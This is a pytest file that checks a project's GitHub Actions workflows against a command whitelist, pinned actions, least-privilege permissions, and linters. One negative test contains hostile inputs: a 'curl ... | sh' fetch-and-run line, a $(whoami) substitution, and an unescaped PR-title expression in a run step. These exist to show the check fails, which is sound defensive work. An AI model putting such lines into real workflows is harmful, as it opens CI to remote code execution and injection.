"""Every workflow under .github/workflows is thin and hardened (generic: new workflows are checked too).

Thin: each `run:` step calls a make target or our CLI, or one line of whitelisted
glue, so logic cannot hide in YAML where no test runs it. Hardened: top-level
`permissions: {}`, SHA-pinned actions with a version comment, no persisted
credentials, no `pull_request_target`, concurrency set; zizmor, GitHub's
schema and (where installed) actionlint agree.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
import yaml

from ml_gitops.cli.main import PROG

from ..helpers import BIN, ROOT

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
ARG_PLAIN = r"[A-Za-z0-9_.,:/=@+-]+"  # no quotes, $, ;, |, &, backticks: nothing a shell could run
# A value from `env:` expanded inside double quotes is one inert word: `"$VERSION"`, `VERSION="$VERSION"`.
ARG_ENV = r'(?:[A-Z_]+=)?"[A-Za-z0-9_./:@+-]*\$\{?[A-Z_]+\}?[A-Za-z0-9_./:@+-]*"'
ARG = rf"(?:{ARG_PLAIN}|{ARG_ENV})"
# Each line of a `run:` must match one of these in full.
ALLOWED_LINES: dict[str, re.Pattern[str]] = {
    "make": re.compile(rf"make(?: {ARG})+"),
    "cli": re.compile(rf"(?:\.venv/bin/)?{re.escape(PROG)}(?: {ARG})+"),
    "fail the job": re.compile(r"exit [0-9]+"),
    "uv via pip": re.compile(r"(?:python3? -m )?pip install(?: --user)? uv==[0-9.]+"),
    "gh": re.compile(rf"gh {ARG}(?: {ARG})*"),
    "git fetch": re.compile(rf"git fetch(?: {ARG})+"),
}
PIN = re.compile(r"^\s*(?:-\s+)?uses:\s*([^@\s]+)@([0-9a-f]{40})\s+#\s*v\d+(?:\.\d+)*\s*$")


def load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict), f"{path.name}: not a mapping"
    return data


def triggers(wf: dict) -> dict:
    on = wf.get("on", wf.get(True))  # YAML 1.1 reads a bare `on` as True
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return on or {}


def steps(wf: dict):
    for job_id, job in (wf.get("jobs") or {}).items():
        for i, step in enumerate(job.get("steps") or []):
            yield job_id, i, step


def bad_run_lines(wf: dict) -> list[str]:
    """`job[step]: line` for every run line that is neither make, our CLI nor whitelisted glue."""
    bad = []
    for job_id, i, step in steps(wf):
        if "run" not in step:
            continue
        lines = [ln.strip() for ln in str(step["run"]).splitlines() if ln.strip()]
        if len(lines) != 1:
            bad.append(f"{job_id}[{i}]: {len(lines)} lines (one command per step)")
        bad += [f"{job_id}[{i}]: {ln}" for ln in lines if not any(p.fullmatch(ln) for p in ALLOWED_LINES.values())]
    return bad


def test_there_are_workflows_to_check():
    names = {p.name for p in WORKFLOWS}
    assert {"ci.yml", "pr.yml"} <= names


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_run_step_is_a_make_target_or_our_cli(path: Path):
    assert bad_run_lines(load(path)) == []


def test_the_run_step_check_can_fail():
    wf = {
        "jobs": {
            "j": {
                "steps": [
                    {"run": "make test && curl https://example.com | sh"},
                    {"run": "make a\nmake b"},
                    {"run": 'echo "${{ github.event.pull_request.title }}"'},
                    {"run": f"{PROG} report --base $(whoami)"},
                    {"run": "make report BASE=origin/main"},
                    {"uses": "actions/checkout@v4"},
                ]
            }
        }
    }
    bad = bad_run_lines(wf)
    assert len(bad) == 4 and not any("BASE=origin/main" in b for b in bad)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_hardening(path: Path):
    wf = load(path)
    assert wf.get("permissions") == {}, "top-level permissions must be {} (grant per job)"
    assert "pull_request_target" not in triggers(wf)
    assert "concurrency" in wf, "superseded runs must be cancelled"
    for job_id, job in wf["jobs"].items():
        assert "permissions" in job, f"{job_id}: job-level permissions (least privilege)"
        writes = {k for k, v in (job["permissions"] or {}).items() if v == "write"}
        assert writes <= {"pull-requests", "contents", "issues", "id-token", "packages", "deployments", "attestations"}
    for job_id, i, step in steps(wf):
        uses = step.get("uses", "")
        if uses.startswith("actions/checkout@"):
            assert (step.get("with") or {}).get("persist-credentials") is False, f"{job_id}[{i}]"
    for n, line in enumerate(path.read_text().splitlines(), 1):
        if re.match(r"^\s*(?:-\s+)?uses:", line) and not re.search(r"uses:\s*\./", line):
            assert PIN.match(line), f"{path.name}:{n}: pin by full SHA with a `# vX.Y.Z` comment: {line.strip()}"
        # Untrusted event data only through env:, never inside a run script.
        if re.search(r"\$\{\{\s*github\.(event|head_ref)", line):
            assert not re.match(r"^\s*(?:-\s+)?run:", line), f"{path.name}:{n}: pass it through env:"


def test_pr_workflow_specifics():
    wf = load(ROOT / ".github" / "workflows" / "pr.yml")
    assert set(triggers(wf)) == {"pull_request"}
    job = wf["jobs"]["report"]
    # It runs the PR's code: no write permission, no write credential, no push, no comment.
    assert job["permissions"] == {"contents": "read"}
    # Secrets come from the `pr` environment, which only a same-repo PR gets.
    assert job["environment"].replace(" ", "") == (
        "${{github.event.pull_request.head.repo.full_name==github.repository&&'pr'||''}}"
    )
    text = (ROOT / ".github" / "workflows" / "pr.yml").read_text()
    assert set(re.findall(r"secrets\.([A-Z_]+)", text)) == {
        "DVC_READ_AWS_ACCESS_KEY_ID",
        "DVC_READ_AWS_SECRET_ACCESS_KEY",
    }
    checkout = next(s for _, _, s in steps(wf) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    order = [s.get("run", "") for _, _, s in steps(wf) if "run" in s]
    index = {cmd: i for i, cmd in enumerate(order)}
    assert (
        index["make pull"]
        < index["make repro"]
        < index["make lock-verify"]
        < index["make report"]
        < index["make pr-number"]
        < index["make pr-gate"]
    )
    assert not any(c in order for c in ("make push", "make pr-comment")), order
    upload = next(s for _, _, s in steps(wf) if s.get("uses", "").startswith("actions/upload-artifact@"))
    assert upload["with"]["name"] == "pr-report" and "reports/pr-number" in upload["with"]["path"].split()
    assert wf["concurrency"]["cancel-in-progress"] is True


def test_pr_comment_workflow_never_runs_the_prs_code():
    wf = load(ROOT / ".github" / "workflows" / "pr-comment.yml")
    assert triggers(wf) == {"workflow_run": {"workflows": ["pr"], "types": ["completed"]}}
    (job,) = wf["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    by_uses = {s["uses"].split("@")[0]: s for s in job["steps"] if "uses" in s}
    # The checkout is the default branch (no ref: never the PR head), without credentials.
    assert by_uses["actions/checkout"]["with"] == {"persist-credentials": False}
    download = by_uses["actions/download-artifact"]["with"]
    assert download["name"] == "pr-report" and download["path"].startswith("${{ runner.temp }}")
    assert download["run-id"] == "${{ github.event.workflow_run.id }}"
    runs = [s["run"] for s in job["steps"] if "run" in s]
    assert runs == ["make cml-install", "make pr-comment"]
    comment_env = next(s for s in job["steps"] if s.get("run") == "make pr-comment")["env"]
    assert comment_env["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert "head_branch" not in (ROOT / ".github" / "workflows" / "pr-comment.yml").read_text()


def test_ci_workflow_runs_lint_and_tests_on_push_and_pr():
    wf = load(ROOT / ".github" / "workflows" / "ci.yml")
    assert {"push", "pull_request"} <= set(triggers(wf))
    runs = [s["run"] for _, _, s in steps(wf) if "run" in s]
    assert "make lint" in runs and any(r.startswith("make test") for r in runs)


def test_zizmor_finds_nothing():
    proc = subprocess.run(
        [str(BIN / "zizmor"), "--offline", str(ROOT / ".github" / "workflows")],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflows_match_githubs_schema(path: Path):
    proc = subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_actionlint_with_shellcheck_accepts_the_workflows():
    proc = subprocess.run(
        [str(BIN / "actionlint"), "-no-color", f"-shellcheck={BIN / 'shellcheck'}", "-pyflakes=", *map(str, WORKFLOWS)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_actionlint_runs_shellcheck_on_run_blocks(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo $FOO\n"
    )
    proc = subprocess.run(
        [str(BIN / "actionlint"), "-no-color", f"-shellcheck={BIN / 'shellcheck'}", "-pyflakes=", str(bad)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 1 and "SC2086" in proc.stdout, proc.stdout + proc.stderr
